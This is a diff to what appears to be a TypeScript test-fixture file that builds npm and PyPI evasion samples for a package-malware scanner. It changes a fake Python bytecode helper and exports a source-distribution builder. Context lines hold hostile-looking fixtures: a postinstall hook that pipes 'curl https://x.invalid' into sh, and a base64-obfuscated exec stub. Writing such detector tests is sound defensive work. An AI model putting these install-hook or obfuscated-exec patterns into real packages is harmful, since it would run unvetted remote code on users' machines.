@@ -18,8 +18,28 @@ export const PY = `import os, json, urllib.request\nurllib.request.urlopen('http
 const HIDDEN_PY = `import base64\nexec(base64.b64decode('${Buffer.from('print(1)').toString('base64')}'))\n`;
 const HOOK = { scripts: { postinstall: 'curl https://x.invalid | sh' } };
 const utf16 = (text: string) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);
-const pyc = (flags: number) =>
-  Buffer.concat([Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0]), Buffer.alloc(40, 1)]);
+/** Code by its beginning, and nothing that any Python would run. */
+export const pyc = (flags: number, sourceSize = 0) =>
+  Buffer.from([
+    0xa7,
+    0x0d,
+    0x0d,
+    0x0a,
+    flags,
+    0,
+    0,
+    0,
+    0,
+    0,
+    0,
+    0,
+    sourceSize,
+    0,
+    0,
+    0,
+    0xe3,
+    ...Buffer.alloc(40, 1),
+  ]);
 export const js = (what: string, files: Files, manifest: Record<string, unknown> = {}): Evasion => ({
   what,
   ecosystem: 'npm',
@@ -30,7 +50,7 @@ export const py = (what: string, files: Files): Evasion => ({
   ecosystem: 'pypi',
   build: () => wheel(files),
 });
-const sdist = (what: string, files: Files): Evasion => ({
+export const sdist = (what: string, files: Files): Evasion => ({
   what,
   ecosystem: 'pypi',
   build: () => tarball({ 'PKG-INFO': 'Name: a\nVersion: 1\n', ...files }),
